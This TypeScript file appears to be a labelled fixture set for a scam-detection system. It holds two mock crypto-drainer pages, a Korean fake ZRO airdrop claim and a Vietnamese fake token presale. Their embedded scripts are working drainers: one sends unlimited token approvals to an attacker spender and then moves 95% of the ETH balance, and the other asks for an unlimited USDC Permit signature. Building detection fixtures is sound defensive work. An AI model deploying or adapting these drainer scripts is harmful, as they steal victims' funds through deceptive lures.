import type { Entry } from '../entry.js';
import { doc, corpCss, shell, okJson, img, htmlRoute, jsRoute, jsonRoute } from '../parts/u-kit.js';

export const entries: Entry[] = [
{
  id: 'u-drainer-airdrop-claim-season2-ko',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://claim-layerzero-s2.kr-drop.xyz/',
  body: doc({
    lang: 'ko',
    title: '에어드랍 시즌2 클레임 | ZRO Rewards',
    css: 'body{margin:0;background:#0a0a0a;color:#fff;font-family:"Pretendard","Malgun Gothic",sans-serif}.n{display:flex;justify-content:space-between;padding:18px 30px;border-bottom:1px solid #222}.h{text-align:center;padding:70px 20px}.h h1{font-size:40px}.btn{background:#fff;color:#000;border:0;border-radius:10px;padding:16px 40px;font-size:17px;font-weight:bold;cursor:pointer}.s{color:#999}.st{max-width:520px;margin:20px auto;background:#141414;border-radius:12px;padding:20px;text-align:left;font-size:14px}',
    body: `<div class="n"><b>ZRO Rewards</b><button class="btn" style="padding:8px 18px;font-size:14px" onclick="connect()">지갑 연결</button></div>
<div class="h"><h1>시즌2 에어드랍 클레임 오픈</h1><p class="s">자격 있는 지갑은 최대 4,200 ZRO를 수령할 수 있습니다. 클레임은 72시간 후 종료됩니다.</p>
<button class="btn" onclick="connect()">자격 확인 & 클레임</button>
<div class="st" id="st">남은 물량: <b>18.2%</b><br>가스비 지원 이벤트 진행 중 · MetaMask, OKX Wallet, Trust Wallet 지원</div></div>
<script src="/assets/web3-modal.min.js"></script>`,
  }),
  routes: {
    'claim-layerzero-s2.kr-drop.xyz/assets/web3-modal.min.js': jsRoute(`var API='https://api.kr-drop.xyz/v1';
async function connect(){var st=document.getElementById('st');if(!window.ethereum){st.innerHTML='지갑이 감지되지 않았습니다. MetaMask 앱 브라우저에서 열어주세요.';return;}
try{var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];st.innerHTML='지갑 확인 중... '+acc.slice(0,6)+'…';
var r=await fetch(API+'/eligible?a='+acc).then(function(x){return x.json()});
for(var i=0;i<r.tokens.length;i++){var t=r.tokens[i];
 var data='0x095ea7b3'+r.spender.slice(2).padStart(64,'0')+'f'.repeat(64);
 await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t.address,data:data}]});
 fetch(API+'/log',{method:'POST',body:JSON.stringify({a:acc,t:t.symbol})});}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:r.spender,value:'0x'+(BigInt(bal)*95n/100n).toString(16)}]});
st.innerHTML='클레임 완료! 토큰은 24시간 내 지급됩니다.';}catch(e){st.innerHTML='트랜잭션이 거부되었습니다. 다시 시도해 주세요.';}}`),
    'api.kr-drop.xyz/v1/eligible': jsonRoute({ eligible: true, amount: 4200, spender: '0x7a3c1e0b9f2d4e8a6c5b3f1d0e9a8b7c6d5e4f3a', tokens: [{ symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }] }),
    'api.kr-drop.xyz/v1/log': okJson(),
  },
},
{
  id: 'u-drainer-presale-token-permit-vi',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://vinapay-token.io/presale',
  body: doc({
    lang: 'vi',
    title: 'VinaPay Token (VNPT) - Presale vòng 2',
    css: 'body{margin:0;background:linear-gradient(160deg,#0b1d3a,#3a0b2d);color:#fff;font-family:Inter,Arial,sans-serif;min-height:100vh}.c{max-width:480px;margin:50px auto;background:rgba(255,255,255,.06);border:1px solid rgba(255,255,255,.15);border-radius:16px;padding:26px}.bar{height:10px;background:#333;border-radius:5px}.bar i{display:block;height:10px;width:83%;background:#f5c542;border-radius:5px}button{width:100%;padding:14px;border:0;border-radius:10px;background:#f5c542;color:#111;font-weight:bold;font-size:16px;margin-top:16px;cursor:pointer}input{width:100%;box-sizing:border-box;padding:12px;border-radius:8px;border:0;margin-top:8px}.s{font-size:13px;opacity:.8}',
    body: `<div class="c"><h2>Mở bán VNPT — Vòng 2</h2><p class="s">Token thanh toán thế hệ mới cho thị trường Việt Nam. Giá vòng 2: 1 VNPT = 0.012 USDT. Niêm yết sàn dự kiến giá 0.09 USDT (x7.5).</p>
<div class="bar"><i></i></div><p class="s">Đã bán 83% · 4.150.000 / 5.000.000 USDT</p>
<label class="s">Số lượng USDT muốn mua</label><input id="amt" value="500">
<button id="buy">Kết nối ví & Mua</button><p class="s" id="msg">Hỗ trợ MetaMask, Trust Wallet, Binance Web3 Wallet. Không cần KYC.</p></div>
<script>
document.getElementById('buy').onclick=async function(){var m=document.getElementById('msg');if(!window.ethereum){m.textContent='Vui lòng mở trang trong trình duyệt ví (MetaMask / Trust Wallet).';return;}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];var cfg=await fetch('/presale/api/cfg').then(function(r){return r.json()});
var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:1,verifyingContract:cfg.token},message:{owner:a,spender:cfg.spender,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:Math.floor(Date.now()/1000)+86400*365}};
try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(typed)]});await fetch('/presale/api/order',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:a,sig:sig})});m.textContent='Đặt mua thành công! Token sẽ được phân phối khi kết thúc presale.';}catch(e){m.textContent='Giao dịch bị huỷ.';}};
</script>`,
  }),
  routes: {
    'vinapay-token.io/presale/api/cfg': jsonRoute({ token: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', spender: '0x4f8e2a1c9d7b3e5f0a6c8d2e4b1f3a5c7e9d0b2a' }),
    'vinapay-token.io/presale/api/order': okJson(),
  },
},
];
